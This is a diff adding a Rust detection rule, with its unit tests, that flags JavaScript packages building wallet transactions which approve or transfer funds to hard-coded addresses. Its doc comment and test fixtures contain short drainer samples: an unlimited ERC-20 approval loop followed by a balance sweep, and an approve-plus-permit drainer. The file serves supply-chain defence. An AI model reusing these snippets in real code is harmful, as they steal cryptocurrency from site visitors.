@@ -1,0 +1,157 @@
+//! `code/wallet-drainer`.
+
+use super::{chain, finding, per_signal};
+use crate::CodeFinding;
+use crate::signal::{Kind, PackageFacts};
+use crate::verdict::Locality;
+use diligence_finding::Severity;
+
+diligence_finding::declare_rule! {
+    /// A library that builds its own wallet transaction moving funds to an address it hard-codes.
+    ///
+    /// ## What it detects
+    /// An EIP-1193 request object the code builds itself — `{ method: 'eth_sendTransaction' |
+    /// 'eth_signTransaction' | 'wallet_sendCalls', params: [{ … }] }` — whose transaction sends value to a
+    /// hard-coded 20-byte address (a constant `to` with no calldata), or whose calldata starts with an
+    /// ERC-20/721 selector that hands over tokens (`approve` `0x095ea7b3`, `transfer` `0xa9059cbb`,
+    /// `transferFrom` `0x23b872dd`, `setApprovalForAll` `0xa22cb465`, `increaseAllowance` `0x39509351`) and
+    /// embeds a hard-coded address as spender or recipient. Also the same hand-overs through a contract or
+    /// signer object (`token.approve(MINE, MaxUint256)`, `nft.setApprovalForAll(MINE, true)`,
+    /// `signer.sendTransaction({ to: MINE, value })`) and permit messages (EIP-2612, Permit2) whose `spender`
+    /// is a hard-coded address. High; critical when the amount is unlimited
+    /// (`'f'.repeat(64)`, `MaxUint256`) or the file builds more than one such transaction (approve every
+    /// token, then sweep the native balance).
+    ///
+    /// ## Why it matters
+    /// Drainers injected into hijacked front-end packages (the October 2024 `@lottiefiles/lottie-player`
+    /// compromise, the 2023 Ledger Connect Kit incident) show a fake "connect your wallet" prompt and then ask
+    /// the victim's wallet to sign approvals and transfers to the attacker. No Node API is involved, the
+    /// victims are the visitors of every site that embeds the package.
+    ///
+    /// ## Example
+    /// `eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: token, data: '0x095ea7b3' + MINE.slice(2).padStart(64, '0') + 'f'.repeat(64) }] })`
+    ///
+    /// ## Known false positives
+    /// Connector libraries (wagmi, web3modal, EIP-1193 wrappers) pass the caller's transaction through: their
+    /// `to` and `data` are parameters, not constants, and are not reported. A donation or tip widget that
+    /// hard-codes its author's address would be reported (high); a DEX helper that hand-builds an approval to a
+    /// hard-coded router would be too — both are rare in a library and worth a reviewer's look.
+    pub static WALLET_DRAINER = { id: "code/wallet-drainer", severity: Severity::Critical };
+}
+
+/// One finding per transaction object that moves funds to a hard-coded address.
+pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    per_signal(p, Kind::WalletDrain, |f, s| {
+        let several = f.of(Kind::WalletDrain).count() >= 2;
+        let sev = if s.detail.contains("unlimited") || several {
+            Severity::Critical
+        } else {
+            Severity::High
+        };
+        Some(finding(
+            &WALLET_DRAINER,
+            sev,
+            f,
+            s,
+            Locality::Function,
+            format!("wallet transaction built by the package: {}", s.detail),
+            chain(p, f, s, &[Kind::WalletAddress, Kind::Network]),
+        ))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::test_util::{PJ, hits, scan};
+
+    /// Approve every token to a constant spender, then sweep the balance to a constant address.
+    #[test]
+    fn positive_unlimited_approval_and_sweep() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/widget.js",
+                "var SPENDER = '0x1111222233334444555566667777888899990000';\nvar SINK = '0xaaaabbbbccccddddeeeeffff0000111122223333';\nasync function go(eth, tokens) {\n  var a = (await eth.request({ method: 'eth_requestAccounts' }))[0];\n  for (var t of tokens) {\n    await eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: t, data: '0x095ea7b3' + SPENDER.slice(2).padStart(64, '0') + 'f'.repeat(64) }] });\n  }\n  await eth.request({ method: 'eth_sendTransaction', params: [{ from: a, to: SINK, value: '0x1' }] });\n}\nmodule.exports = go;\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-drainer"),
+            vec![
+                ("dist/widget.js".to_string(), 6),
+                ("dist/widget.js".to_string(), 8)
+            ]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A plain value transfer to one hard-coded address: high, not malicious alone.
+    #[test]
+    fn positive_transfer_to_a_constant_address() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "tip.js",
+                "export function tip(eth, from) {\n  return eth.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x9a8b7c6d5e4f30211203948576afbecd12345678', value: '0x2386f26fc10000' }] });\n}\n",
+            ),
+        ]);
+        let f = crate::rules::test_util::finding(&s, "code/wallet-drainer");
+        assert_eq!((f.line, f.severity), (2, diligence_finding::Severity::High));
+    }
+
+    /// An ethers-style drainer: every token approved to a constant spender, then a permit.
+    #[test]
+    fn positive_contract_approve_and_permit() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "d.js",
+                "const MINE = '0x5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f';\nexport async function run(tokens, signer, owner) {\n  for (const t of tokens) await t.approve(MINE, ethers.MaxUint256);\n  const message = { owner, spender: MINE, value: ethers.MaxUint256, nonce: 0, deadline: 9999999999 };\n  return signer.signTypedData(domain, types, message);\n}\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-drainer"),
+            vec![("d.js".to_string(), 3), ("d.js".to_string(), 4)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A token helper approves the spender its caller names.
+    #[test]
+    fn negative_approve_callers_spender() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "t.js",
+                "export function allow(token, spender, amount) {\n  return token.approve(spender, amount ?? ethers.MaxUint256);\n}\nexport function permit(owner, spender, value) {\n  return { owner, spender, value, nonce: 0, deadline: 0 };\n}\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-drainer").is_empty());
+    }
+
+    /// A wagmi-style connector sends what its caller gives it.
+    #[test]
+    fn negative_connector_passes_the_callers_transaction() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "connector.js",
+                "export async function sendTransaction(provider, tx) {\n  const [from] = await provider.request({ method: 'eth_requestAccounts' });\n  return provider.request({ method: 'eth_sendTransaction', params: [{ from, to: tx.to, value: tx.value, data: tx.data }] });\n}\nexport function approve(provider, from, token, spender, amount) {\n  const data = '0x095ea7b3' + spender.slice(2).padStart(64, '0') + amount.toString(16).padStart(64, '0');\n  return provider.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data }] });\n}\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-drainer").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// Calling a known contract (a constant `to` with calldata the caller chose) is not a transfer.
+    #[test]
+    fn negative_contract_call_with_callers_calldata() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "router.js",
+                "const ROUTER = '0x7a250d5630b4cf539739df2c5dacb4c659f2488d';\nexport function swap(provider, from, calldata) {\n  return provider.request({ method: 'eth_sendTransaction', params: [{ from, to: ROUTER, data: calldata }] });\n}\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-drainer").is_empty());
+    }
+}
